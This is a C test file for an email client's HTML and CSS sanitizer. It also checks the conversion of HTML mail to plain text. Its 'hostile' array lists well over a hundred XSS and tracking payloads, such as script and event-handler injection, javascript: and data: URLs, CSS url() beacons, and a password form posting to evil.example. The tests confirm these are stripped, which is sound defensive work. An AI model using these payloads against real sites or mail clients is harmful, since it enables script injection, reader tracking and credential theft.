/* HTML of strangers: what must not come through, what must, and text from it. */
#include "test-mime.h"

#include <string.h>

#include "mime-css-private.h"
#include "mime-html.h"

static char *
give_cid (const char *cid, G_GNUC_UNUSED gpointer user_data)
{
  return strcmp (cid, "known") == 0 ? g_strdup ("sosik-cid:7") : NULL;
}

/* Every one of these tries to fetch, run, submit, cover or escape. */
static const char *const hostile[] = {
  "<script>alert(1)</script>",
  "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>//<b></script ><img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"http://evil.example/pixel.gif\">",
  "<img src=//evil.example/pixel.gif>",
  "<img src='ht\ntp://evil.example/a'>",
  "<img src=' \x01http://evil.example/a'>",
  "<img srcset='http://evil.example/a 2x' src=cid:known>",
  "<img lowsrc=http://evil.example/a dynsrc=http://evil.example/b longdesc=http://evil.example/c>",
  "<img src=javascript:alert(1)>",
  "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
  "<img src='data:text/html,<script>alert(1)</script>'>",
  "<img src=file:///etc/passwd>",
  "<img src=sosik-remote:http%3A%2F%2Fevil.example%2F>",
  "<img src='sosik-cid:0/../x'>",
  "<img src=cid:unknown>",
  "<picture><source srcset=http://evil.example/a><img src=http://evil.example/b></picture>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
  "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
  "<a href=file:///etc/passwd>x</a>",
  "<a href=vbscript:x>x</a>",
  "<a href='\x01javascript:alert(1)'>x</a>",
  "<a href=https://ok.example ping=http://evil.example/p target=_top>x</a>",
  "<a href=\"https://ok.example/\" onmouseover=\"alert(1)\">x</a>",
  "<a href='https://ok.example\" onclick=\"alert(1)'>x</a>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<link rel=preconnect href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
  "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<base href=http://evil.example/><img src=a.gif>",
  "<iframe src=http://evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<frameset><frame src=http://evil.example></frameset>",
  "<object data=http://evil.example/x></object>",
  "<embed src=http://evil.example/x.swf>",
  "<applet code=x archive=http://evil.example/x.jar></applet>",
  "<video src=http://evil.example/v poster=http://evil.example/p></video>",
  "<audio src=http://evil.example/a autoplay>",
  "<svg onload=alert(1)><image href=http://evil.example/a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<math href=javascript:alert(1)>x</math>",
  "<form action=http://evil.example/><input name=password><button>go</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<isindex action=javascript:alert(1) type=image>",
  "<input type=image src=http://evil.example/a>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<noscript><img src=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><img src=http://evil.example/a></template>",
  "<body background=http://evil.example/b onload=alert(1)>x",
  "<table background=http://evil.example/t><td background=http://evil.example/u>x",
  "<p style='background:url(http://evil.example/a)'>x</p>",
  "<p style=\"background:u\\72l(http://evil.example/a)\">x</p>",
  "<p style='background:/**/url(http://evil.example/a)'>x</p>",
  "<p style='background:ur/**/l(http://evil.example/a)'>x</p>",
  "<p style=\"background-image:image-set('http://evil.example/a' 1x)\">x</p>",
  "<p style=\"background:image('http://evil.example/a')\">x</p>",
  "<p style='width:expression(alert(1))'>x</p>",
  "<p style='behavior:url(#default#time2)'>x</p>",
  "<p style='-moz-binding:url(http://evil.example/x.xml#a)'>x</p>",
  "<p style='list-style:url(http://evil.example/a)'>x</p>",
  "<p style='cursor:url(http://evil.example/a),auto'>x</p>",
  "<p style='content:url(http://evil.example/a)'>x</p>",
  "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
  "<p style='position:absolute;z-index:9999'>x</p>",
  "<p style='color:red;po\\73ition:fixed'>x</p>",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<style>@import url(http://evil.example/x.css);p{color:red}</style>",
  "<style>@font-face{font-family:a;src:url(http://evil.example/f)}</style>",
  "<style>p{background:url(http://evil.example/a)}</style>",
  "<style>p{color:red}</style><style>a[href^='x']{background:url(http://evil.example/a)}</style>",
  "<style></style ><script>alert(1)</script></style>",
  "<style>p{color:red}</style/><img src=x onerror=alert(1)>",
  "<style><!--</style><img src=x onerror=alert(1)>--></style>",
  "<style>a{color:red}</sty</style>le><script>alert(1)</script>",
  "<style>@media screen{p{position:fixed}}</style>",
  "<style>p{font-family:'</style><script>alert(1)</script>'}</style>",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='http://evil.example/x.css'?>",
  "<!DOCTYPE html [<!ENTITY x SYSTEM 'http://evil.example/x'>]>&x;",
  "<html manifest=http://evil.example/m><head profile=http://evil.example/p>",
  "<a href=https://ok.example/ style=\"x:url('http://evil.example')\">x",
  "<blockquote cite=http://evil.example/>x</blockquote><q cite=http://evil.example/>y</q><del cite=http://evil.example/>z</del>",
  "<div style=\"font-family:'a;b';background:url('http://evil.example/')\">",
  "<img alt='\"><script>alert(1)</script>' src=cid:known>",
  "<img src=\"cid:known\" alt=`<script>alert(1)</script>`>",
  "<p title='--><script>alert(1)</script>'>x",
  "<a href=\"mailto:x@y?attach=/etc/passwd\" onclick=alert(1)>x</a>",
  "<area href=javascript:alert(1)><map name=x><area href=http://evil.example/></map>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<details open ontoggle=alert(1)>x</details>",
  "<select onfocus=alert(1) autofocus><option>x</select>",
  "<p/onclick=alert(1)>x",
  "<img/src=x/onerror=alert(1)>",
  "<<script>alert(1)//<</script>",
  "<img \x0c src=http://evil.example/a>",
  "<o:p><v:imagedata src=http://evil.example/a></o:p>",
  "<table><form><tr><td><script>alert(1)</script></form>",
  "<p><form><p>a</form><table><p><b><p></table>",
  "\xef\xbf\xbd<\xef\xbf\xbdscript>alert(1)</script>",
};

static gboolean
has_word (const char *html, const char *word)
{
  g_autofree char *lower = g_ascii_strdown (html, -1);

  return strstr (lower, word) != NULL;
}

/* Walks the output as a browser would: every tag in it must be one we know, with attributes that are harmless. */
static void
check_tags (const char *html)
{
  static const char *const forbidden[] = { "script",   "iframe",    "object", "embed", "link",
                                           "base",     "svg",       "math",   "form",  "input",
                                           "button",   "textarea",  "select", "video", "audio",
                                           "noscript", "template",  "title",  "frame", "applet",
                                           "xmp",      "plaintext", "source", "area",  "isindex" };

  for (const char *at = html; (at = strchr (at, '<')) != NULL; at++) {
    const char *end = strchr (at, '>');

    g_assert_nonnull (end);
    for (gsize i = 0; i < G_N_ELEMENTS (forbidden); i++) {
      gsize length = strlen (forbidden[i]);
      const char *name = at + (at[1] == '/' ? 2 : 1);

      g_assert_false (g_ascii_strncasecmp (name, forbidden[i], length) == 0
                      && !g_ascii_isalnum (name[length]));
    }
    for (const char *c = at; c < end; c++) {
      if (*c == '"') {
        const char *name_end, *name_start, *stop = strchr (c + 1, '"');
        g_autofree char *name = NULL, *value = NULL;

        g_assert_nonnull (stop);
        g_assert_cmpint (c[-1], ==, '=');
        name_end = name_start = c - 1;
        while (name_start[-1] != ' ')
          name_start--;
        name = g_strndup (name_start, (gsize)(name_end - name_start));
        value = g_strndup (c + 1, (gsize)(stop - c - 1));
        g_assert_false (g_str_has_prefix (name, "on"));
        if (strcmp (name, "href") == 0)
          g_assert_true (g_str_has_prefix (value, "https://") || g_str_has_prefix (value, "http://")
                         || g_str_has_prefix (value, "mailto:"));
        else if (strcmp (name, "src") == 0)
          g_assert_true (g_str_has_prefix (value, "sosik-cid:")
                         || g_str_has_prefix (value, "data:image/png"));
        else
          g_assert_false (strcmp (name, "srcset") == 0 || strcmp (name, "background") == 0
                          || strcmp (name, "action") == 0 || strcmp (name, "ping") == 0
                          || strcmp (name, "target") == 0 || strcmp (name, "poster") == 0
                          || strcmp (name, "cite") == 0);
        if (strcmp (name, "style") == 0)
          g_assert_false (has_word (value, "url") || has_word (value, "position:")
                          || has_word (value, "evil") || has_word (value, "expression"));
        c = stop;
      }
    }
  }
}

static void
check_clean (const char *html)
{
  g_auto (MimeHtmlFacts) facts = { 0 };
  g_autofree char *once = mime_html_clean (html, FALSE, NULL, give_cid, NULL);
  g_autofree char *twice = mime_html_clean (once, FALSE, &facts, give_cid, NULL);
  g_autofree char *remote = mime_html_clean (html, TRUE, NULL, give_cid, NULL);
  g_autofree char *remote_twice = mime_html_clean (remote, TRUE, NULL, give_cid, NULL);
  const char *style = strstr (once, "<style>");

  g_assert_true (g_str_has_prefix (once, "<!DOCTYPE html><html><head><meta charset=\"utf-8\">"));
  g_assert_true (g_str_has_suffix (once, "</body></html>"));
  g_assert_true (g_utf8_validate (once, -1, NULL));
  g_assert_cmpstr (once, ==, twice);
  g_assert_cmpstr (remote, ==, remote_twice);
  g_assert_cmpuint (facts.blocked, ==, 0);
  g_assert_cmpuint (facts.trackers->len, ==, 0);
  check_tags (strchr (once + 1, '<'));
  if (style != NULL) {
    g_autofree char *css = g_strndup (style, (gsize)(strstr (style, "</style>") - style));

    g_assert_false (has_word (css, "url") || has_word (css, "@import") || has_word (css, "position")
                    || has_word (css, "@font"));
  }
  g_assert_null (strstr (once, "src=\"http"));
  g_assert_null (strstr (remote, "src=\"http"));
}

static void
test_hostile_vectors (void)
{
  g_assert_cmpuint (G_N_ELEMENTS (hostile), >=, 60);
  for (gsize i = 0; i < G_N_ELEMENTS (hostile); i++) {
    g_test_message ("%s", hostile[i]);
    check_clean (hostile[i]);
  }
}

/* The same vectors cut at every byte, and any two in a row. */
static void
test_hostile_cuts (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (hostile); i++) {
    for (gsize length = 1; length < strlen (hostile[i]); length++) {
      g_autofree char *cut = g_strndup (hostile[i], length);

      if (g_utf8_validate (cut, -1, NULL))
        check_clean (cut);
    }
    g_autofree char *pair = g_strconcat ("<p>", hostile[i], "<td>",
                                         hostile[(i * 7 + 3) % G_N_ELEMENTS (hostile)], NULL);
    check_clean (pair);
  }
}

static void
test_random_soup (void)
{
  static const char *const pieces[] = { "<p>",
                                        "</p>",
                                        "<b>",
                                        "</b>",
                                        "<table>",
                                        "</table>",
                                        "<tr>",
                                        "<td>",
                                        "</td>",
                                        "<div>",
                                        "</div>",
                                        "<a href=http://x.example/>",
                                        "</a>",
                                        "text ",
                                        "<ul>",
                                        "<li>",
                                        "</ul>",
                                        "<form>",
                                        "</form>",
                                        "<foo>",
                                        "</foo>",
                                        "<style>p{color:red}</style>",
                                        "<h1>",
                                        "</h1>",
                                        "<pre>\n",
                                        "</pre>",
                                        "<img src=cid:known>",
                                        "<body>",
                                        "</body>",
                                        "<html>",
                                        "</html>",
                                        "<head>",
                                        "</head>",
                                        "<title>",
                                        "</title>",
                                        "<svg>",
                                        "</svg>",
                                        "<font>",
                                        "&lt;",
                                        "&",
                                        "\n",
                                        "<br>",
                                        "<hr>",
                                        "<dl>",
                                        "<dt>",
                                        "<dd>",
                                        "<option>",
                                        "<select>",
                                        "</select>",
                                        "<center>",
                                        "<noscript>",
                                        "</noscript>" };
  g_autoptr (GRand) rand = g_rand_new_with_seed (42);

  for (int round = 0; round < 600; round++) {
    g_autoptr (GString) soup = g_string_new (NULL);

    for (int i = g_rand_int_range (rand, 1, 25); i > 0; i--)
      g_string_append (soup, pieces[g_rand_int_range (rand, 0, G_N_ELEMENTS (pieces))]);
    g_test_message ("%s", soup->str);
    check_clean (soup->str);
  }
}

static void
check_body (const char *html, gboolean allow_remote, guint blocked, const char *body)
{
  g_auto (MimeHtmlFacts) facts = { 0 };
  g_autofree char *clean = mime_html_clean (html, allow_remote, &facts, give_cid, NULL);
  const char *start = strstr (clean, "<body>");

  g_assert_nonnull (start);
  g_autofree char *inner = g_strndup (start + 6, strlen (start + 6) - strlen ("</body></html>"));
  g_assert_cmpstr (inner, ==, body);
  g_assert_cmpuint (facts.blocked, ==, blocked);
}

static void
test_kept (void)
{
  check_body ("<p>안녕 <b>하세요</b> &amp; &lt;x&gt;</p>", FALSE, 0,
              "<p>안녕 <b>하세요</b> &amp; &lt;x&gt;</p>");
  check_body ("<a href='https://x.example/?a=1&amp;b=2'>x</a>", FALSE, 0,
              "<a href=\"https://x.example/?a=1&amp;b=2\" rel=\"noopener noreferrer\">x</a>");
  check_body ("<a href='mailto:a@b.example'>x</a>", FALSE, 0,
              "<a href=\"mailto:a@b.example\" rel=\"noopener noreferrer\">x</a>");
  check_body ("<img src=cid:known alt=logo>", FALSE, 0, "<img alt=\"logo\" src=\"sosik-cid:7\">");
  check_body ("<img src=http://x.example/a.png alt=logo width=5>", FALSE, 1,
              "<img alt=\"logo\" width=\"5\" class=\"sosik-blocked\">");
  check_body ("<img src='http://x.example/a b.png?c=d&amp;e'>", TRUE, 1,
              "<img src=\"sosik-remote:http%3A%2F%2Fx.example%2Fa%20b.png%3Fc%3Dd%26e\">");
  check_body ("<img src='data:image/png;base64,iVBORw0KGgo='>", FALSE, 0,
              "<img src=\"data:image/png;base64,iVBORw0KGgo=\">");
  check_body (
      "<p style=\"COLOR: Red; margin : 0 auto;font:12px 'A B',serif;width:calc(100% - 2px)\">x</p>",
      FALSE, 0,
      "<p style=\"color:Red;margin:0 auto;font:12px 'A B',serif;width:calc(100% - 2px)\">x</p>");
  check_body (
      "<table border=1 cellpadding=2><tr><td bgcolor=#fff colspan=2>x</td></tr></table>", FALSE, 0,
      "<table border=\"1\" cellpadding=\"2\"><tr><td bgcolor=\"#fff\" colspan=\"2\">x</td></tr></table>");
  check_body ("a<!--[if mso]>mso<![endif]-->b<![if !mso]>c<![endif]>d", FALSE, 0, "abcd");
  check_body ("<div>one</div></body></html><p>behind the end", FALSE, 0,
              "<div>one</div><p>behind the end</p>");
  check_body ("1 < 2 and <3", FALSE, 0, "1 &lt; 2 and &lt;3");
}

static void
check_sheet (const char *css, const char *expected)
{
  g_autofree char *clean = mime_css_clean_sheet (css, strlen (css));
  g_autofree char *twice = mime_css_clean_sheet (clean, strlen (clean));

  g_assert_cmpstr (clean, ==, expected);
  g_assert_cmpstr (twice, ==, expected);
}

static void
test_css (void)
{
  check_sheet ("p { color : red ; } /* c */ .a > b:first-child, #c { margin:0 }",
               "p{color:red}\n.a > b:first-child, #c{margin:0}\n");
  check_sheet (
      "@media only screen and (max-width:600px){ .x{width:100%} .y{position:fixed;color:red} }",
      "@media only all and (max-width:600px){\n.x{width:100%}\n}\n");
  /* What the pointer does is a line, not a text that comes and goes */
  check_sheet ("a:hover,a:visited{color:red;margin:0;text-decoration:underline}p::after{color:red}",
               "a:hover,a:visited{text-decoration:underline}\n");
  check_sheet ("@import 'x'; p{color:red}", "p{color:red}\n");
  check_sheet ("@font-face{src:url(x)} p{color:red}", "p{color:red}\n");
  check_sheet ("@keyframes x{from{color:red}to{color:blue}} p{color:red}", "p{color:red}\n");
  check_sheet ("p{color:red", "p{color:red}\n");
  check_sheet ("p{color:red;background:url(x)}}q{color:blue}", "p{color:red}\nq{color:blue}\n");
  check_sheet ("<!-- p{color:red} -->", "p{color:red}\n");
  check_sheet ("p\\{x{color:red} q{color:blue}", "q{color:blue}\n");
  check_sheet ("}}}{{{", "");
  check_sheet (
      "@media print{p{color:red}} @media (hover){p{color:red}} @media not screen{p{color:red}}"
      "@supports (color:red){p{color:red}} @media (prefers-color-scheme:dark){p{color:red}}",
      "@media (prefers-color-scheme:dark){\np{color:red}\n}\n");
  check_sheet (
      "p{display:none;visibility:hidden;opacity:0;font-size:0;overflow:hidden;color:transparent;"
      "color:rgba(0,0,0,.01);color:#00000001;font:0/0 a;text-indent:-9999px;margin-left:-999px;"
      "letter-spacing:-1em;letter-spacing:-20px;unicode-bidi:bidi-override;flex-direction:row-reverse}",
      "");
  /* What would grow with the view that is made as high as its content, or turn with it. */
  check_sheet ("p{padding-top:100vh;margin:.5vmin;font-size:9dvh;line-height:calc(1px + 3svh)}"
               "@media (orientation:landscape){p{color:red}}",
               "");
  check_sheet (
      "p{min-height:100vh;height:50px;margin:-5px;color:rgba(0,0,0,.8);font:bold 12px/1.5 a}",
      "p{height:50px;margin:-5px;color:rgba(0,0,0,.8);font:bold 12px/1.5 a}\n");
  check_sheet ("a{font:3px x}b{font:1em x}i{font:700 12px / 1 x}u{font:0px x}",
               "b{font:1em x}\ni{font:700 12px / 1 x}\n");
}

static void
check_text (const char *html, const char *expected)
{
  g_autofree char *text = mime_html_to_text (html);

  g_assert_cmpstr (text, ==, expected);
}

static void
test_to_text (void)
{
  check_text ("", "");
  check_text ("<p>one<p>two", "one\n\ntwo\n");
  check_text ("<div>a</div><div>b</div>c<br>d", "a\nb\nc\nd\n");
  check_text ("<h1>Title</h1>text", "Title\n\ntext\n");
  check_text ("<ul><li>a<li>b</ul><ol><li>x</li><li>y</li></ol>", "• a\n• b\n\n1. x\n2. y\n");
  check_text ("<blockquote>q<blockquote>r</blockquote></blockquote>after",
              "> q\n>\n>> r\n\nafter\n");
  check_text ("<a href='https://x.example/page'>here</a>", "here <https://x.example/page>\n");
  check_text ("<a name='top'>here</a> <a href=' '>there</a>", "here there\n");
  check_text (
      "<a href='https://x.example/'>https://x.example</a> <a href='mailto:a@b.example'>a@b.example</a>",
      "https://x.example a@b.example\n");
  check_text (
      "<p style='display:none'>no</p><p hidden>no</p>yes<script>no</script><style>no</style><title>no</title>",
      "yes\n");
  check_text ("a &lt;b&gt; &amp;&nbsp;c", "a <b> & c\n");
  check_text ("<pre>x\n  y\n</pre>z", "x\n  y\n\nz\n");
  check_text ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc\n");
  check_text ("x<img src=y alt='a picture'>", "xa picture\n");
  check_text ("안녕\n<b>하</b>세요", "안녕 하세요\n");
}

void
test_html_add (void)
{
  g_test_add_func ("/mime/html/hostile", test_hostile_vectors);
  g_test_add_func ("/mime/html/hostile-cuts", test_hostile_cuts);
  g_test_add_func ("/mime/html/random-soup", test_random_soup);
  g_test_add_func ("/mime/html/kept", test_kept);
  g_test_add_func ("/mime/html/css", test_css);
  g_test_add_func ("/mime/html/text", test_to_text);
}
